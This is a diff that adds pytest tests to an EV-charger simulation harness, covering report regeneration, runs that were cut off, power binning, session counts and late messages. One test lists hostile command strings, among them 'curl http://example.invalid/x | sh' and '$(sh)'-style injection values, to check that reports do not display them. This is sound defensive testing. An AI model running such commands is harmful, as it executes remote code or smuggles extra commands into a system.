@@ -19,7 +19,8 @@ from harness import pages, scenario
 from harness.cli import main
 from harness.journal.energy import MOST_BINS, Bins, bin_ms
 from harness.journal.reader import Journal
-from harness.journal.records import Current, Stay
+from harness.journal.records import Attempts, Current, Loss, Message, PlugIn, Recovery, Stay
+from harness.report.chronicle import Chronicle
 from harness.report.html.gather import Gatherer
 from harness.values import LiveRun, Scenario
 
@@ -108,6 +109,42 @@ def test_a_journal_alone_is_judged_again_for_its_page(tmp_path):
     assert "harness check" in harness.html_report(tmp_path / "run").read_text()
 
 
+def test_a_strict_run_s_reports_are_made_again_as_strictly(tmp_path):
+    run = harness.run("answer-lost", out=tmp_path, strict=True)
+    assert run.verdict == "unknown"
+    first = (tmp_path / "report.html").read_bytes()
+    assert harness.html_report(tmp_path).read_bytes() == first
+    assert "**Verdict** | unknown" in harness.postmortem(tmp_path).read_text()
+
+
+def test_a_page_that_is_asked_to_be_strict_says_how_to_repeat_that(tmp_path):
+    run = harness.run("answer-lost", out=tmp_path, html=False)
+    assert run.verdict == "pass"
+    assert f"{run.outcome.command} --strict</code>" in harness.html_report(tmp_path, strict=True).read_text()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://example.invalid/x | sh", "harness run answer-lost; sh", "harness run $(sh)", "harness run 'a", "harness explore x",
+        "harness run 'a\nb'", "harness run '\u202ehs'", "harness run answer-lost # x", "",
+    ],
+)  # fmt: skip
+def test_a_kept_command_that_is_none_of_ours_is_not_shown(tmp_path, command):
+    harness.run("answer-lost", out=tmp_path, html=False)
+    result = json.loads((tmp_path / "result.json").read_text())
+    (tmp_path / "result.json").write_text(json.dumps({**result, "command": command}))
+    assert "<pre><code>harness check " in harness.html_report(tmp_path).read_text()
+    assert "```sh\nharness check " in harness.postmortem(tmp_path).read_text()
+
+
+def test_the_result_of_another_run_tells_no_command(tmp_path):
+    harness.run("answer-lost", out=tmp_path / "one", html=False)
+    harness.run("answer-lost", out=tmp_path / "two", seed=99, html=False)
+    (tmp_path / "two" / "result.json").replace(tmp_path / "one" / "result.json")
+    assert "<pre><code>harness check " in harness.html_report(tmp_path / "one").read_text()
+
+
 def test_a_page_may_be_left_out(tmp_path):
     harness.run("answer-lost", out=tmp_path, html=False)
     assert sorted(path.name for path in tmp_path.iterdir()) == ["journal.jsonl", "junit.xml", "report.md", "result.json"]
@@ -156,6 +193,46 @@ def test_a_failure_is_told_first_pinned_on_its_lane_and_drawn_as_a_sequence():
     assert all(f'id="failure-{place}"' in page for place, _ in pins)
 
 
+# A run that was cut off, and a last bin that is no whole one.
+
+
+def page_data(page: bytes) -> dict:
+    return json.loads(re.search(r'<script type="application/json" id="run">(.*?)</script>', page.decode())[1])
+
+
+def test_nothing_is_drawn_or_told_beyond_a_cut(tmp_path):
+    whole = ran().journal.read_bytes().splitlines(keepends=True)
+    (tmp_path / "journal.jsonl").write_bytes(b"".join(whole[: len(whole) // 2]))
+    data = page_data(harness.html_report(tmp_path).read_bytes())
+    last_s = harness.judge(tmp_path).outcome.outline.end_ms // 1000
+    assert 0 < last_s < data["width"] * data["unit"]
+    for name, *steps in data["lanes"]:
+        if not name.startswith("tariff"):
+            assert (steps[-2], data["meanings"][steps[-1]]) == (last_s // data["unit"], "nothing is known: the journal ends before")
+    bins = -(-last_s // data["bin"])
+    assert {len(values) for _, _, _, *series in data["series"] for values in series} == {bins}
+    assert not any("the journal ends before" in words for words in page_data(page_of().encode())["meanings"])
+
+
+def test_the_power_of_a_bin_is_that_of_the_time_it_has():
+    plan = msgspec.structs.replace(plain_scenario(), duration_ms=6 * HOUR_MS + 30_000)
+    it = Gatherer(plan)
+    assert it.width_ms == 60_000
+    it.feed([
+        Current(t=5 * HOUR_MS, who="anna", state="Charging", reason="unit-rating", ma=30_000, wh=0),
+        Attempts(t=plan.duration_ms, who="ben", first=6 * HOUR_MS, last=plan.duration_ms - 1, count=60),
+        Current(t=plan.duration_ms, who="anna", state="Charging", reason="unit-rating", ma=30_000, wh=7_260),
+    ])  # fmt: skip
+    it.close(plan.duration_ms)
+    power = it.kw(it.bins.wh())
+    assert power[-2:] == [pytest.approx(7.2, abs=0.1)] * 2
+    assert it.tries_per_s()[-1] == 2
+    assert len(power) == it.known == it.count == 361
+    it.close(6 * HOUR_MS - 30_000)  # as a run that was cut off there
+    assert (it.known, len(it.states()["charging"]), len(it.kw(it.bins.wh()))) == (360, 360, 360)
+    assert it.kw([60] * 360)[-2:] == [3.6, 7.2]
+
+
 # What is gathered adds up.
 
 
@@ -200,6 +277,75 @@ def test_all_chargers_are_in_some_state_at_any_time_and_none_is_online_twice(mod
     assert {sum(states[kind][place] for kind in states) for place in range(it.count)} == {len(it.courses)}
     assert all(0 <= low <= high <= len(it.courses) for low, high in it.online.bins(it.count))
     assert all(low >= 0 for low, _ in it.queue.bins(it.count))
+
+
+@every
+@pytest.mark.parametrize("share", [0.3, 0.6, 1])
+def test_the_page_and_the_postmortem_count_the_same_sessions(model, seed, share):
+    plan, records, _ = gathered(model, seed)
+    kept = records[: int(len(records) * share)]
+    it, chronicle = Gatherer(plan), Chronicle()
+    for each in (it, chronicle):
+        each.feed(kept)
+    it.close(plan.duration_ms if share == 1 else kept[-1].t)
+    chronicle.close()
+    assert (it.sessions, it.sessions_affected) == (chronicle.sessions, chronicle.sessions_affected)
+
+
+def test_a_session_with_a_blip_in_it_was_not_without_the_server_and_one_that_a_cut_left_open_was():
+    def counted(*records, ends=9 * HOUR_MS):
+        it, chronicle = Gatherer(plain_scenario()), Chronicle()
+        for each in (it, chronicle):
+            each.feed([msgspec.structs.replace(record, t=place * HOUR_MS, who="anna") for place, record in enumerate(records)])
+        it.close(ends)
+        chronicle.close()
+        assert (it.sessions_affected, it.sessions) == (chronicle.sessions_affected, chronicle.sessions)
+        return it.sessions_affected, it.sessions
+
+    come = PlugIn(t=0, plug_in=1, car="bolt", needs_wh=1, leave=0)
+    gone = Stay(t=0, plug_in=1, wh=1, needs_wh=1, ended="unplugged", full=False)
+    lost = Loss(t=0, cause="link")
+    back, blip = Recovery(t=0, since=0), Recovery(t=0, since=0, blip=True)
+    assert counted(lost, come, blip, gone) == (0, 1)
+    assert counted(come, lost, blip, gone) == (0, 1)
+    assert counted(lost, come, gone, blip, come, gone) == (0, 2)
+    assert counted(lost, come, gone, blip, lost, back) == (0, 1)
+    assert counted(lost, come, back, gone) == (1, 1)
+    assert counted(lost, come, gone, back, come, gone) == (1, 2)
+    assert counted(lost, come, gone, come, gone, back) == (2, 2)
+    assert counted(come, lost, back, lost, blip, gone) == (1, 1)
+    assert counted(come, lost, back) == counted(come, lost) == counted(lost, come) == counted(lost, come, gone) == (1, 1)
+    assert counted(come, lost, blip) == (0, 1)
+
+
+def test_idle_time_is_that_of_a_car_that_wanted_to_charge_and_told_by_reason_with_the_server_and_without():
+    it = Gatherer(plain_scenario())
+    course = [
+        PlugIn(t=HOUR_MS, who="anna", plug_in=1, car="bolt", needs_wh=1, leave=0),
+        Current(t=HOUR_MS, who="anna", state="SuspendedEVSE", reason="tou-hold", ma=0, wh=0),
+        Loss(t=2 * HOUR_MS, who="anna", cause="link"),
+        Current(t=3 * HOUR_MS, who="anna", state="Charging", reason="unit-rating", ma=32_000, wh=0),
+        Recovery(t=4 * HOUR_MS, who="anna", since=2 * HOUR_MS),
+        Current(t=4 * HOUR_MS, who="anna", state="SuspendedEV", reason="vehicle-full", ma=0, wh=9),
+        Stay(t=5 * HOUR_MS, who="anna", plug_in=1, wh=9, needs_wh=9, ended="unplugged", full=True),
+    ]
+    it.feed(course)
+    it.close(6 * HOUR_MS)
+    assert it.idle == {"tou-hold": [HOUR_MS, HOUR_MS]}
+
+
+def test_a_transaction_s_message_is_late_beyond_what_its_charger_waits_for_an_answer():
+    plan = plain_scenario()
+    patience_ms = plan.models["juicebox-40"].link.answer_timeout_ms
+    it = Gatherer(plan)
+    it.feed([
+        Message(t=HOUR_MS + patience_ms, who="anna", action="transaction-start", sent=HOUR_MS, at=HOUR_MS, tx=1),
+        Message(t=2 * HOUR_MS + patience_ms + 1, who="anna", action="transaction-end", sent=HOUR_MS, at=2 * HOUR_MS, tx=1),
+        Message(t=3 * HOUR_MS, who="anna", action="transaction-end", sent=HOUR_MS, at=2 * HOUR_MS, tx=1, repeat=True),
+        Message(t=4 * HOUR_MS, who="anna", action="meter-values", sent=HOUR_MS, at=HOUR_MS, tx=1),
+    ])  # fmt: skip
+    assert {name: account.late for name, account in it.ledger.items()} == {"transaction-start": 0, "transaction-end": 1, "meter-values": 0}
+    assert it.ledger["transaction-end"].again == 1
 
 
 @every
